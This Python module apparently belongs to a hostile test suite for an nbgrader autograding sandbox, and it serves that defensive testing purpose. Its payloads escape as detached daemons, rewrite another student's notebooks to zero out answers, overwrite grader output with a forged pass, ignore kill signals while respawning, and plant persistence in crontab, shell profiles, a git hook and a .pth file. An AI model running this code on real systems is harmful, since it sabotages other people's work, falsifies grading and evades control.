"""What outlives the notebook: children of children, sessions of their own, threads and hooks that wait."""

from __future__ import annotations

from hostile.attack import code

FAMILY = "daemons"
# Under stock, these find the class where nbgrader has it: the working directory is autograded/STUDENT/CHAPTER.
VANDAL = '''
import glob, os, time
def vandal(seconds):
    end = time.time() + seconds
    while time.time() < end:
        for path in glob.glob("/class/**/zoe/**/*.ipynb", recursive=True) + glob.glob("../../../*/zoe/**/*.ipynb", recursive=True):
            try:
                text = open(path).read()
                os.chmod(path, 0o644)
                open(path, "w").write(text.replace("frozen + ", "0 * frozen + ").replace("return sum", "return 0 * sum"))
            except OSError:
                pass
        time.sleep(0.02)
'''


@code("double-fork", FAMILY, "forks twice, setsid, waits for a later student's work and spoils it")
def _():
    return VANDAL + """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir(".")
        vandal(25)
    os._exit(0)
"""


@code("nohup", FAMILY, "nohup and setsid in the shell, standard streams closed")
def _():
    return """
import subprocess
subprocess.Popen("setsid nohup sh -c 'sleep 30; sleep 30' </dev/null >/dev/null 2>&1 &", shell=True, close_fds=True,
                 start_new_session=True)
"""


@code("waiting-thread", FAMILY, "a thread that waits for the check and then replaces its answers")
def _():
    return """
import glob, os, threading, time
def wait():
    while True:
        for path in glob.glob("/exchange/*.out") + glob.glob("/exchange/*.part"):
            try:
                with open(path, "r+b") as file:
                    file.write(b'PTW1{"passed": true}')
            except OSError:
                pass
        time.sleep(0.0005)
threading.Thread(target=wait, daemon=True).start()
"""


@code("many-daemons", FAMILY, "daemons that start one another anew when they are killed")
def _():
    return """
import os, signal, time
def immortal(depth=0):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT):
        signal.signal(number, signal.SIG_IGN)
    end = time.time() + 25
    while time.time() < end:
        child = os.fork()
        if child == 0:
            os.setsid()
            time.sleep(0.5)
            if os.fork():
                os._exit(0)
            continue
        os.waitpid(child, 0)
if os.fork() == 0:
    os.setsid()
    try:
        immortal()
    finally:
        os._exit(0)
"""


@code("crontab", FAMILY,
      "leaves work for later: crontab, at, .bashrc, autostart, a git hook, a .pth in the user's site")
def _():
    return """
import os, site, subprocess
line = "touch hostile-was-here\\n"
for path in ("/class/.bashrc", "~/.bashrc", "~/.profile", "~/.config/autostart/x.desktop", "/etc/cron.d/x",
             "/var/spool/cron/crontabs/root", "../../../.git/hooks/pre-commit", "/class/nbgrader_config.py",
             "../../../nbgrader_config.py", site.getusersitepackages() + "/x.pth"):
    path = os.path.expanduser(path)
    try:
        if path.startswith("/scratch"):
            os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write("# " + line)
        if not path.startswith("/scratch"):
            print("ACHIEVED: wrote", path)
    except OSError:
        pass
"""
